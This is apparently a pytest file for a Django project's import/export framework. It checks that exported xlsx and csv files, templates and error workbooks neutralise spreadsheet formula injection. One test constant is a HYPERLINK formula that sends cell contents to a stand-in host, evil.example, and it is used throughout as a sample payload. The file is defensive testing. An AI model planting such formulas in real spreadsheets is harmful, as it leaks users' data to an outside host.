"""Formula injection (issue 9): a text that a spreadsheet would read as a formula is written as
text in every export (xlsx: a string cell; csv: behind a single quote), error workbooks and
templates included; imports keep the text and warn; a csv kexie exported imports back unchanged."""

import csv
import io

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from kexie.activities.models import Activity
from kexie.core.imports import KINDS, export_rows, get_spec, import_file, template_bytes
from kexie.core.imports.guard import guard_csv, unguard_csv
from kexie.directory.models import Organisation, Person
from kexie.directory.services import organisation_create, person_create

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")'
TRIGGERS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def xlsx_cells(data: bytes) -> list:
    wb = load_workbook(io.BytesIO(data))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def evil_cells(data: bytes, text: str = EVIL) -> list:
    return [c for c in xlsx_cells(data) if c.value == text]


@pytest.fixture
def evil_records(world, personas, make_activity):
    admin = personas["city_admin"]
    make_activity(title=EVIL)
    org = organisation_create(actor=admin, data={"name": EVIL, "kind": "other"})
    person_create(actor=admin, data={"name": EVIL, "unit": org})
    return admin


KINDS_WITH_EVIL = {"activities": "活动名称", "organisations": "名称", "people": "姓名"}


@pytest.mark.parametrize("kind", sorted(KINDS_WITH_EVIL))
def test_exports_write_a_formula_title_as_a_string_cell(evil_records, kind):
    data = export_rows(actor=evil_records, kind=kind)
    cells = evil_cells(data)
    assert cells, "the title is exported"
    assert all(c.data_type == "s" for c in cells), [c.data_type for c in cells]
    assert all(c.quotePrefix for c in cells)
    assert not [c.coordinate for c in xlsx_cells(data) if c.data_type == "f"]  # the 说明 sheet too


@pytest.mark.parametrize("kind", sorted(KINDS_WITH_EVIL))
def test_csv_exports_put_the_owasp_quote_in_front(evil_records, kind):
    rows = csv_rows(export_rows(actor=evil_records, kind=kind, fmt="csv"))
    flat = [cell for row in rows for cell in row]
    assert "'" + EVIL in flat
    assert EVIL not in flat


@pytest.mark.parametrize("kind", sorted(KINDS_WITH_EVIL))
def test_web_export_xlsx_and_csv_are_guarded(client, evil_records, kind):
    client.force_login(evil_records)
    xlsx = client.get(reverse("core:export"), {"kind": kind})
    assert xlsx.status_code == 200
    assert evil_cells(xlsx.content) and all(c.data_type == "s" for c in evil_cells(xlsx.content))
    as_csv = client.get(reverse("core:export"), {"kind": kind, "format": "csv"})
    assert as_csv.status_code == 200 and as_csv["Content-Type"].startswith("text/csv")
    assert as_csv["Content-Disposition"].endswith(".csv")
    assert "'" + EVIL in [cell for row in csv_rows(as_csv.content) for cell in row]


@pytest.mark.parametrize("kind", sorted(KINDS_WITH_EVIL))
def test_cli_export_is_guarded(evil_records, kind, tmp_path):
    xlsx, as_csv = tmp_path / "out.xlsx", tmp_path / "out.csv"
    call_command("export", kind, str(xlsx), stdout=io.StringIO())
    call_command("export", kind, str(as_csv), stdout=io.StringIO())
    assert all(c.data_type == "s" for c in evil_cells(xlsx.read_bytes()))
    assert "'" + EVIL in [cell for row in csv_rows(as_csv.read_bytes()) for cell in row]


@pytest.mark.parametrize("kind", KINDS)
def test_every_registered_export_kind_guards_every_text_cell(personas, monkeypatch, kind):
    """Through the framework, whatever a kind's rows hold: later modules get the guard for free."""
    spec = get_spec(kind)
    width = len(spec.columns())
    rows = [[TRIGGERS[(i + j) % len(TRIGGERS)] for j in range(width)] for i in range(3)]
    monkeypatch.setattr(type(spec), "export_values", lambda self, objs, ctx: iter(rows))
    actor = personas["city_admin"]
    data = [c for c in xlsx_cells(export_rows(actor=actor, kind=kind)) if c.value in TRIGGERS]
    assert len(data) == 3 * width
    assert {c.data_type for c in data} == {"s"}
    written = csv_rows(export_rows(actor=actor, kind=kind, fmt="csv"))[1:]
    assert written == [["'" + value for value in row] for row in rows]


@pytest.mark.parametrize("kind", KINDS)
def test_templates_never_hold_a_formula_cell(evil_records, kind):
    """Organisation names reach templates as examples, drop-down lists and the 说明 sheet."""
    cells = xlsx_cells(template_bytes(actor=evil_records, kind=kind))
    assert not [c.coordinate for c in cells if c.data_type == "f"]


def test_error_workbook_writes_uploaded_formulas_as_text(personas):
    data = "\n".join(["活动名称,活动类型,开始日期,结束日期,所在区划,主办单位", f'"{EVIL.replace(chr(34), chr(34) * 2)}",科普讲座,2020-13-01,2020-09-19,任城区,任城区科学技术协会']).encode()  # fmt: skip
    result = import_file(actor=personas["county_staff"], kind="activities", fileobj=io.BytesIO(data),
                         filename="a.csv")  # fmt: skip
    assert result.error_workbook
    cells = evil_cells(result.error_workbook)
    assert cells and all(c.data_type == "s" for c in cells)
    assert not [c for c in xlsx_cells(result.error_workbook) if c.data_type == "f"]


def test_import_keeps_a_formula_text_and_warns(personas):
    wb = Workbook()
    wb.active.append(["活动名称", "活动类型", "开始日期", "结束日期", "所在区划", "主办单位", "地点"])
    wb.active.append(["@SUM(1)", "科普讲座", "2020-09-19", "2020-09-19", "任城区", "任城区科学技术协会", "-"])
    buf = io.BytesIO()
    wb.save(buf)
    result = import_file(actor=personas["county_staff"], kind="activities", fileobj=io.BytesIO(buf.getvalue()),
                         filename="a.xlsx")  # fmt: skip
    assert result.ok and result.written
    activity = Activity.objects.get()
    assert (activity.title, activity.venue) == ("@SUM(1)", "-")
    warned = {(w.row, w.header) for w in result.warnings}
    assert {(2, "活动名称"), (2, "地点")} <= warned
    assert all("公式" in w.reason for w in result.warnings)


TRICKY = [EVIL, "'=1+1", "''-2", "'plain", "+8613900000000", "-", "正常标题"]


@pytest.mark.parametrize("value", TRICKY)
def test_the_csv_guard_comes_off_exactly(value):
    assert unguard_csv(guard_csv(value)) == value
    assert unguard_csv(value) == value or value.startswith("'")


def test_an_exported_csv_imports_back_unchanged(world, personas, make_activity):
    admin = personas["city_admin"]
    for title in TRICKY:
        make_activity(title=title, venue=title)
    org = organisation_create(actor=admin, data={"name": "'=2+2", "kind": "other", "note": EVIL})
    person_create(actor=admin, data={"name": "-李四", "unit": org, "profile": "@研究方向"})
    for kind, model, fields in (
        ("activities", Activity, ("title", "venue")),
        ("organisations", Organisation, ("name", "note")),
        ("people", Person, ("name", "profile")),
    ):
        before = sorted(model.objects.values_list(*fields))
        data = export_rows(actor=admin, kind=kind, fmt="csv")
        result = import_file(actor=admin, kind=kind, fileobj=io.BytesIO(data), filename="export.csv")
        assert result.ok, [p.message for p in result.errors]
        assert (result.created, result.updated) == (0, 0), kind
        assert result.unchanged == result.rows
        assert sorted(model.objects.values_list(*fields)) == before
        assert export_rows(actor=admin, kind=kind, fmt="csv") == data


def test_other_apps_workbooks_are_guarded():
    from kexie.core.imports.guard import guard_workbook

    wb = Workbook()
    wb.active.append([EVIL, "-3", -3])
    guard_workbook(wb)
    a1, b1, c1 = wb.active[1]
    assert (a1.data_type, b1.data_type, c1.data_type) == ("s", "s", "n")


def test_patent_selection_export_is_guarded(world, personas):
    """A later module's own workbook: a patent title from an uploaded file cannot run."""
    from kexie.innovation import patents
    from kexie.innovation.models import Patent
    from kexie.innovation.testing import build_innovation_world

    patents.reset_index()
    try:
        inno = build_innovation_world(world)
        user = inno["enterprise_user"]
        patents.patent_registration_create(actor=user)
        chosen = patents.selection_list_create(actor=user, name="备选")
        patent = Patent.objects.create(publication_no="CN1A", title=EVIL, legal_status="有效")
        patents.patent_select(actor=user, selection_list=chosen, patent=patent)
        cells = evil_cells(patents.selection_export(chosen))
        assert cells and {c.data_type for c in cells} == {"s"}
    finally:
        patents.reset_index()


def test_every_module_that_writes_a_table_uses_the_guard():
    """A static check for later modules: a file that builds a workbook or a csv writer either is
    the export framework or calls kexie.core.imports.guard."""
    import re
    from pathlib import Path

    import kexie

    root = Path(kexie.__file__).parent
    writes = re.compile(r"\bWorkbook\(|csv\.(writer|DictWriter)\(")
    framework = {root / "core" / "imports" / "writer.py"}
    unguarded = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path not in framework
        and "migrations" not in path.parts
        and writes.search(text := path.read_text(encoding="utf-8"))
        and "guard_workbook" not in text
        and "guard_csv" not in text
    ]
    assert unguarded == []
